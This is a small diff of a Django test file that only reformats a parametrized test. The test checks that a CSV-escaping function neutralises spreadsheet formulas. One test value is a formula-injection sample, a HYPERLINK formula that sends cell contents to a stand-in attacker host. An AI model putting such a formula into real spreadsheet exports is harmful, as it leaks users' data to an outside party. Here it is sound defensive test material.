@@ -20,9 +20,7 @@ pytestmark = pytest.mark.django_db
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
 
 
-@pytest.mark.parametrize(
-    "value", ["=1+1", "+86 27", "-2+3", "@SUM(A1)", "\t=1", "\r=1", FORMULA]
-)
+@pytest.mark.parametrize("value", ["=1+1", "+86 27", "-2+3", "@SUM(A1)", "\t=1", "\r=1", FORMULA])
 def test_csv_cell_quotes_what_a_spreadsheet_would_run(value):
     assert csv_cell(value) == "'" + value
 
